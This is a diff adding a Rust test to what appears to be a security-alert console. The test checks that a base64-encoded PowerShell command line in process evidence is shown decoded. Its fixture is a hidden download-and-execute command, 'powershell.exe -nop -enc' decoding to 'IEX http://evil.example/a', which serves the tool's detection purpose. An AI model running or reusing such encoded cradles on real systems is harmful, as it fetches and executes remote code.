@@ -476,3 +476,25 @@ fn members_are_shown_in_words_and_found_in_either_form() {
         console.keys("Esc Esc");
     }
 }
+
+#[test]
+fn base64_in_a_command_line_is_shown_decoded() {
+    // `IEX http://evil.example/a`, in UTF-16 as PowerShell takes it.
+    let encoded = "SQBFAFgAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA=";
+    let command = format!("powershell.exe -nop -enc {encoded}");
+    let process = json!({
+        "@odata.type": "#microsoft.graph.security.processEvidence", "processId": 7,
+        "imageFile": {"fileName": "powershell.exe"}, "processCommandLine": command,
+    });
+    let mut console = Harness::with_alerts(&[with(alert(1), json!({"evidence": [process]}))]);
+    console.keys("Enter");
+    let screen = console.screen();
+    let at = |text: &str| screen.lines().position(|line| line.contains(text));
+    let (command, decoded) = (at("-nop -enc"), at("decoded  IEX http://evil.example/a"));
+    assert!(command.is_some() && command < decoded, "{screen}");
+    // The cursor skips it; the values of the process have it whole.
+    console.keys("j j Enter");
+    let screen = console.screen();
+    let line = screen.lines().find(|line| line.contains("decoded from command line")).unwrap();
+    assert!(line.contains("IEX http://evil.example/a"), "{screen}");
+}
